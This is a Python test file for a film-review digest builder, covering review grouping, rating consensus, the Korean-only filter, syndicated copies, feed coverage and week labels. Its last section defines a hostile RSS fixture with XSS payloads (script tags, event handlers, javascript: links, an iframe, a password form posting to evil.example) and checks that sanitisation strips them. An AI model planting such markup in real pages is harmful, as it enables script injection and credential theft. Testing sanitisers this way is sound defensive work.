"""The digest builder (``tracker.digest``), from hand-built stored entries: sections, film cards and
their consensus, ordering, the Korean filter, a new feed's backlog, syndicated copies, coverage
notes, counts and the week label. Ends with feed HTML that tries to run script, going the whole way
parse -> storage -> build -> render through a real HTTP server on 127.0.0.1."""

from __future__ import annotations

import asyncio
import itertools
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from email.utils import format_datetime
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from fakes import FakeClock
from httpserver import HTTPTestServer

from tracker import app as core
from tracker.config.schema import load_config
from tracker.digest import build as digest
from tracker.digest import select, window
from tracker.types import (
    Digest,
    DigestItem,
    Entry,
    FeedHints,
    FeedKind,
    FeedSpec,
    FeedStatus,
    IsoWeek,
    Kind,
    Source,
)

TZ = "Asia/Seoul"
WEEK = IsoWeek(2026, 48)
START, END = window.week_bounds(WEEK, TZ)  # Mon 23 Nov 2026 00:00 KST .. Mon 30 Nov 00:00 KST

SCMP = "https://scmp.example/rss/k-movies.xml"
GUARDIAN = "https://guardian.example/film/rss"
NETFLIX = "https://whats-on-netflix.example/feed/"
YONHAP = "https://yonhap.example/rss/culture.xml"
HERALD = "https://koreaherald.example/rss/entertainment.xml"

_ids = itertools.count(1)


def entry(
    title: str,
    summary: str = "",
    *,
    feed: str = SCMP,
    seen: datetime | None = None,
    published: datetime | None = None,
    link: str | None = None,
    feed_title: str | None = None,
    image: str | None = None,
) -> Entry:
    """A stored entry first seen on Tue 24 Nov (inside the week) unless told otherwise."""
    n = next(_ids)
    first_seen = seen or START + timedelta(days=1, hours=10)
    return Entry(
        id=n,
        feed_url=feed,
        identity=f"urn:test:{n}",
        title=title,
        link=link or f"{feed.rsplit('/', 1)[0]}/article/{n}",
        published_at=published or first_seen,
        first_seen_at=first_seen,
        summary=summary,
        feed_title=feed_title,
        image=image,
    )


def understood(entries: Sequence[Entry], specs: Mapping[str, FeedSpec]) -> list[Entry]:
    """The entries as the poll stores them: understood on ingest, with their feed's hints."""
    return [
        replace(e, understood=select.understand_stored(e, _hints(specs.get(e.feed_url))))
        for e in entries
    ]


def _hints(spec: FeedSpec | None) -> FeedHints:
    return FeedHints(spec.kind, spec.korean_only) if spec else FeedHints()


def build(
    entries: Sequence[Entry],
    *,
    feeds: Sequence[FeedStatus] = (),
    specs: Mapping[str, FeedSpec] | None = None,
    korean_only: bool = True,
) -> Digest:
    return digest.build_digest(
        understood(entries, specs or {}),
        feeds=feeds,
        specs=specs or {},
        week=WEEK,
        start=START,
        end=END,
        timezone=TZ,
        now=END + timedelta(hours=9),
        korean_only=korean_only,
    )


def status(
    url: str,
    *,
    title: str | None = None,
    followed: bool = True,
    errors: int = 0,
    last_error: str | None = None,
    http_status: int | None = 200,
    first_polled: datetime | None = START - timedelta(days=60),
    last_success: datetime | None = None,
) -> FeedStatus:
    return FeedStatus(
        url=url,
        title=title,
        followed=followed,
        entries=10,
        last_checked_at=END - timedelta(hours=1),
        last_success_at=last_success,
        next_poll_at=END,
        consecutive_errors=errors,
        last_error=last_error,
        http_status=http_status,
        first_polled_at=first_polled,
    )


# A busy week, written for these tests (real films and people, invented reviews).


def exhuma_scmp() -> Entry:
    return entry(
        "Exhuma film review: Choi Min-sik and Kim Go-eun unearth something ancient",
        "4/5 stars\nJang Jae-hyun delivers a grave-moving occult thriller.",
        feed=SCMP,
        feed_title="SCMP K-movies",
    )


def exhuma_guardian() -> Entry:
    return entry(
        "Exhuma review – a shamanist horror that digs deep",
        "★★★½ Jang Jae-hyun's occult thriller with Choi Min-sik.",
        feed=GUARDIAN,
        feed_title="The Guardian: Film",
    )


def harbin() -> Entry:
    return entry(
        "Harbin review: Hyun Bin plays independence fighter Ahn Jung-geun",
        "3/5 stars. Woo Min-ho's solemn period piece.",
        feed=SCMP,
        feed_title="SCMP K-movies",
    )


def trunk_release() -> Entry:
    return entry(
        "New on Netflix this week: 'The Trunk' (Korean series) arrives November 27",
        "Gong Yoo and Seo Hyun-jin star in the Korean drama The Trunk, streaming on Netflix "
        "from November 27.",
        feed=NETFLIX,
        feed_title="What's on Netflix",
    )


def bong_news() -> Entry:
    return entry(
        "Bong Joon-ho to receive honorary award at Busan festival",
        "The Parasite director will be honoured at the Busan International Film Festival.",
        feed=YONHAP,
        feed_title="Yonhap Culture",
    )


def oppenheimer() -> Entry:
    return entry(
        "Oppenheimer review: Nolan's epic",
        "4/5 stars. Christopher Nolan's biopic of the physicist.",
        feed=GUARDIAN,
        feed_title="The Guardian: Film",
    )


def gallery() -> Entry:
    return entry(
        "Top 10 photos from the red carpet gallery",
        "Gallery.",
        feed=YONHAP,
        feed_title="Yonhap Culture",
    )


def week_entries() -> list[Entry]:
    # Harbin first on purpose: the order of the input must not decide the order of the cards
    return [
        harbin(),
        bong_news(),
        exhuma_scmp(),
        oppenheimer(),
        trunk_release(),
        gallery(),
        exhuma_guardian(),
    ]


def all_items(built: Digest) -> list[DigestItem]:
    items = [*built.releases, *built.news]
    for card in built.films:
        items += [*card.reviews, *card.releases, *card.news]
    return items


# -- sections ------------------------------------------------------------------------------------


def test_reviews_of_one_film_become_one_card_with_a_consensus() -> None:
    built = build(week_entries())
    cards = {card.title: card for card in built.films}
    exhuma = cards["Exhuma"]
    assert [r.source for r in exhuma.reviews] == ["SCMP K-movies", "The Guardian: Film"]
    # best rating first; the consensus is the mean of the stated ratings
    assert exhuma.ratings == (4.0, 3.5)
    assert exhuma.consensus == 3.75
    assert exhuma.reviews[0].rating_text is not None
    assert cards["Harbin"].consensus == 3.0
    assert len(cards["Harbin"].reviews) == 1


def test_netflix_release_is_listed_with_its_date_and_platform() -> None:
    built = build(week_entries())
    assert len(built.releases) == 1
    release = built.releases[0]
    assert release.kind is Kind.RELEASE
    assert release.release_date == date(2026, 11, 27)
    assert release.platform == "netflix"
    trunk = next(card for card in built.films if card.title == "The Trunk")
    assert trunk.release_date == date(2026, 11, 27)
    assert trunk.released_this_week
    assert trunk.platform == "netflix"


def test_news_not_about_one_film_goes_to_the_news_section() -> None:
    built = build(week_entries())
    assert [n.title for n in built.news] == [
        "Bong Joon-ho to receive honorary award at Busan festival"
    ]
    assert built.news[0].kind is Kind.NEWS
    assert built.news[0].source == "Yonhap Culture"
    assert built.news[0].excerpt is not None and "Busan" in built.news[0].excerpt


def test_cards_released_this_week_come_first_then_the_most_reviewed() -> None:
    built = build(week_entries())
    assert [card.title for card in built.films] == ["The Trunk", "Exhuma", "Harbin"]


def test_a_release_outside_the_week_is_not_marked_released_this_week() -> None:
    later = entry(
        "New on Netflix: 'The Trunk' (Korean series) arrives December 12",
        "Gong Yoo stars in the Korean drama The Trunk, streaming on Netflix from December 12.",
        feed=NETFLIX,
    )
    built = build([later, exhuma_scmp(), exhuma_guardian()])
    trunk = next(card for card in built.films if card.title == "The Trunk")
    assert trunk.release_date == date(2026, 12, 12)
    assert not trunk.released_this_week
    # then reviews decide: Exhuma (2 reviews) before a release with none
    assert [card.title for card in built.films] == ["Exhuma", "The Trunk"]


# -- what is left out ----------------------------------------------------------------------------


def test_korean_only_leaves_out_films_that_are_not_korean() -> None:
    korean = build(week_entries(), korean_only=True)
    everything = build(week_entries(), korean_only=False)
    assert "Oppenheimer" not in {card.title for card in korean.films}
    assert "Oppenheimer" in {card.title for card in everything.films}
    assert everything.counts.reviews == korean.counts.reviews + 1

    _, left_out = select.select(understood(week_entries(), {}), {}, korean_only=True)
    reasons = {e.title: why for e, why in left_out}
    assert "korean_only" in reasons["Oppenheimer review: Nolan's epic"]


def test_kind_other_is_left_out_even_without_the_korean_filter() -> None:
    for korean_only in (True, False):
        built = build(week_entries(), korean_only=korean_only)
        assert "Top 10 photos from the red carpet gallery" not in {
            i.title for i in all_items(built)
        }
    _, left_out = select.select(understood([gallery()], {}), {}, korean_only=False)
    assert [why for _, why in left_out] == ["kind=other (lists, galleries, promotion, non-film)"]


def test_feed_rules_exclude_words() -> None:
    spec = FeedSpec(url=SCMP, title="SCMP K-movies", kind=FeedKind.REVIEW, exclude=("Harbin",))
    built = build([harbin(), exhuma_scmp()], specs={SCMP: spec})
    assert [card.title for card in built.films] == ["Exhuma"]


def test_a_new_feeds_backlog_does_not_flood_its_first_digest() -> None:
    first_poll = START + timedelta(days=2)
    feeds = {SCMP: status(SCMP, first_polled=first_poll)}
    backlog = entry("Old review", feed=SCMP, seen=first_poll, published=first_poll - timedelta(30))
    recent = entry("Recent review", feed=SCMP, seen=first_poll, published=first_poll - timedelta(2))
    # a later poll finds an entry the feed dates two months back: it is news to us this week
    backdated = entry(
        "Backdated review",
        feed=SCMP,
        seen=first_poll + timedelta(days=1),
        published=first_poll - timedelta(days=60),
    )
    # a feed we have no record of is not treated as new
    unknown = entry("Unknown feed", feed=HERALD, seen=first_poll, published=START - timedelta(90))
    kept = select.select_entries(
        [backlog, recent, backdated, unknown], feeds, backfill=timedelta(days=7)
    )
    assert [e.title for e in kept] == ["Recent review", "Backdated review", "Unknown feed"]

    wider = select.select_entries([backlog], feeds, backfill=timedelta(days=45))
    assert [e.title for e in wider] == ["Old review"]


def test_syndicated_copies_are_shown_once_with_also_covered_by() -> None:
    title = "Bong Joon-ho to receive honorary award at Busan festival"
    text = (
        "SEOUL, Nov. 24 (Yonhap) -- The Parasite director Bong Joon-ho will be honoured at the "
        "Busan International Film Festival next year, organisers said on Tuesday."
    )
    first = entry(title, text, feed=YONHAP, feed_title="Yonhap Culture", link="https://y.example/1")
    copy = entry(
        title,
        text,
        feed=HERALD,
        feed_title="Korea Herald",
        link="https://h.example/1",
        seen=first.first_seen_at + timedelta(hours=3),
    )
    built = build([copy, first])
    shown = [i for i in all_items(built) if i.title == title]
    assert len(shown) == 1
    # the copy seen first is the one shown; the other is credited
    assert shown[0].source == "Yonhap Culture"
    assert shown[0].also_covered_by == (Source("Korea Herald", "https://h.example/1"),)
    assert built.counts.news == 1
    assert built.counts.sources == 2


# -- coverage, counts, label ---------------------------------------------------------------------


def test_coverage_names_failing_silent_and_gone_feeds_only() -> None:
    feeds = [
        status(SCMP, title="SCMP K-movies"),  # has an entry this week: fine
        status(
            GUARDIAN,
            title="The Guardian: Film",
            errors=3,
            last_error="HTTP 503",
            last_success=datetime(2026, 11, 20, 8, 0, tzinfo=UTC),
        ),
        status(NETFLIX, title="What's on Netflix", http_status=410, errors=1, last_error="gone"),
        status(YONHAP, title=None),  # polled for months, never anything: silent
        status(HERALD, first_polled=END - timedelta(days=3)),  # too new to call silent
        # a fortnightly feed in its quiet week: something new ten days ago, so not silent
        replace(status(HERALD + "/biweekly"), last_entry_at=END - timedelta(days=10)),
        replace(status(HERALD + "/quiet"), last_entry_at=END - timedelta(days=20)),
        status("https://me:s3cret@private.example/rss", title=None, errors=1, last_error="x"),
        status("https://unfollowed.example/rss", followed=False, errors=5, last_error="HTTP 500"),
    ]
    built = build([exhuma_scmp()], feeds=feeds)
    notes = {note.url: note for note in built.coverage}
    assert {url: note.state for url, note in notes.items()} == {
        GUARDIAN: "failing",
        NETFLIX: "gone",
        YONHAP: "silent",
        HERALD + "/quiet": "silent",
        "https://***@private.example/rss": "failing",
    }
    assert "s3cret" not in repr(built.coverage)
    assert notes[HERALD + "/quiet"].detail.startswith("nothing new since")
    assert notes[GUARDIAN].title == "The Guardian: Film"
    assert notes[GUARDIAN].detail == "HTTP 503; last success Nov 20"
    assert "410" in notes[NETFLIX].detail
    assert notes[YONHAP].title == YONHAP  # no title: the URL stands in


def test_counts_in_the_header() -> None:
    built = build(week_entries())
    c = built.counts
    assert (c.films, c.reviews, c.releases, c.news) == (3, 3, 1, 1)
    # sources of what is shown: SCMP, Guardian, What's on Netflix, Yonhap (not the left-out)
    assert c.sources == 4
    assert not built.empty


def test_an_empty_week() -> None:
    built = build([gallery(), oppenheimer()])
    assert built.empty
    assert built.counts == type(built.counts)(sources=0)
    assert (built.week, built.start, built.end, built.timezone) == (WEEK, START, END, TZ)


@pytest.mark.parametrize(
    ("week", "label"),
    [
        (IsoWeek(2026, 48), "Nov 23–29, 2026"),
        (IsoWeek(2026, 49), "Nov 30 – Dec 6, 2026"),
        (IsoWeek(2026, 53), "Dec 28 – Jan 3, 2027"),
    ],
)
def test_week_label(week: IsoWeek, label: str) -> None:
    start, end = window.week_bounds(week, TZ)
    built = digest.build_digest(
        [], feeds=[], specs={}, week=week, start=start, end=end, timezone=TZ, now=end
    )
    assert built.week_label == label


# -- hostile feed HTML, end to end ---------------------------------------------------------------

HOSTILE_SUMMARY = """
<p>4/5 stars. Choi Min-sik is superb.<script>alert('summary')</script></p>
<img src="https://img.example/exhuma.jpg" onerror="alert('img')" alt="poster">
<a href="javascript:alert('link')">click</a>
<a href="https://ok.example/more" onclick="x()">more</a>
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<iframe src="https://evil.example/frame"></iframe>
<svg onload="alert('svg')"><circle r="1"/></svg>
<style>body { display: none }</style>
"""


HOSTILE_TITLE = "Exhuma review <script>alert('title')</script> a grave thriller"


def hostile_feed(now: datetime) -> bytes:
    item = (
        "<item>"
        f"<title>{escape(HOSTILE_TITLE)}</title>"
        "<link>javascript:alert('entry-link')</link>"
        '<guid isPermaLink="false">hostile-1</guid>'
        f"<pubDate>{format_datetime(now - timedelta(hours=5))}</pubDate>"
        f"<description>{escape(HOSTILE_SUMMARY)}</description>"
        "</item>"
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        "<title>Hostile reviews</title><link>https://hostile.example/</link>"
        f"<description>x</description>{item}</channel></rss>"
    ).encode()


@pytest.fixture
def server() -> Iterator[HTTPTestServer]:
    with HTTPTestServer() as s:
        yield s


#: a user's template that shows each item's summary HTML, the way a richer layout would
SUMMARY_TEMPLATE = """<html><body>
{% for card in digest.films %}{% for item in card.reviews %}
<h2>{{ item.title }}</h2><div class="summary">{{ item.summary_html | sanitised }}</div>
{% endfor %}{% endfor %}
</body></html>
"""


def test_feed_html_comes_out_sanitised_in_the_rendered_digest(
    tmp_path: Path, server: HTTPTestServer
) -> None:
    clock = FakeClock(datetime(2026, 11, 25, 3, 0, tzinfo=UTC))  # Wed of 2026-W48 in Seoul
    url = server.add_file("/hostile.xml", hostile_feed(clock()))
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "summaries.html").write_text(SUMMARY_TEMPLATE, encoding="utf-8")
    config = load_config(
        f"""
[database]
url = "sqlite:///{(tmp_path / "t.db").as_posix()}"
[tracker]
timezone = "{TZ}"
collections = []
state_dir = "{tmp_path.as_posix()}"
[poll]
allow_private_networks = true
[digest]
templates = "{templates.as_posix()}"
[[feeds]]
url = "{url}"
title = "Hostile reviews"
kind = "review"
korean_only = true
"""
    )
    with core.make_tracker(config, clock=clock) as tracker:
        results = asyncio.run(tracker.poll())
        assert [r.error for r in results] == [None]
        built, rendered = tracker.preview(WEEK)
        renderer = tracker.renderer()
        with_summaries = renderer.env.get_template("summaries.html").render(digest=built)

    [item] = [i for i in all_items(built) if "Exhuma" in i.title]
    assert item.link is None  # a javascript: link is no link at all
    # markup in a title is dropped by the parser, script text and all; the words stay
    assert item.title == "Exhuma review a grave thriller"
    assert item.rating == 4.0
    assert item.summary_html is not None
    for part in (rendered.html, rendered.text, rendered.subject, with_summaries):
        lowered = part.lower()
        assert "<script" not in lowered
        assert "javascript:" not in lowered
        assert "alert(" not in lowered
    for html in (rendered.html.lower(), with_summaries.lower()):
        for bad in ("onerror", "onclick", "onload", "<form", "<input", "<iframe", "evil.example"):
            assert bad not in html, bad
    assert "<style" not in with_summaries  # the feed's own CSS does not reach the digest
    # the harmless parts of the summary survive
    assert 'href="https://ok.example/more"' in with_summaries
    assert "Choi Min-sik is superb" in with_summaries
    assert "Choi Min-sik is superb" in rendered.html  # the excerpt, as plain text


def review_feed(title: str, summary: str, now: datetime) -> bytes:
    item = (
        f"<item><title>{escape(title)}</title><link>https://reviews.example/{abs(hash(title))}"
        f'</link><guid isPermaLink="false">{escape(title)}</guid>'
        f"<pubDate>{format_datetime(now - timedelta(hours=3))}</pubDate>"
        f"<description>{escape(summary)}</description></item>"
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        "<title>Reviews</title><link>https://reviews.example/</link>"
        f"<description>x</description>{item}</channel></rss>"
    ).encode()


def test_a_feed_removed_from_the_config_is_not_in_the_next_digest(
    tmp_path: Path, server: HTTPTestServer
) -> None:
    clock = FakeClock(datetime(2026, 11, 25, 3, 0, tzinfo=UTC))
    kept = server.add_file(
        "/kept.xml",
        review_feed(exhuma_scmp().title, exhuma_scmp().summary or "", clock()),
    )
    dropped = server.add_file(
        "/dropped.xml", review_feed(harbin().title, harbin().summary or "", clock())
    )

    def config(*urls: str) -> str:
        feeds = "".join(f'[[feeds]]\nurl = "{u}"\nkind = "review"\n' for u in urls)
        return (
            f'[database]\nurl = "sqlite:///{(tmp_path / "t.db").as_posix()}"\n'
            f'[tracker]\ntimezone = "{TZ}"\ncollections = []\n'
            "[poll]\nallow_private_networks = true\n" + feeds
        )

    with core.make_tracker(load_config(config(kept, dropped)), clock=clock) as tracker:
        asyncio.run(tracker.poll())
        assert {c.title for c in tracker.build_digest(WEEK).films} == {"Exhuma", "Harbin"}
    # `tracker feeds remove` keeps the entries in the database, but not in the digest
    with core.make_tracker(load_config(config(kept)), clock=clock) as tracker:
        built = tracker.build_digest(WEEK)
        assert len(tracker.storage.list_entries()) == 2
    assert [c.title for c in built.films] == ["Exhuma"]
    assert built.counts.sources == 1
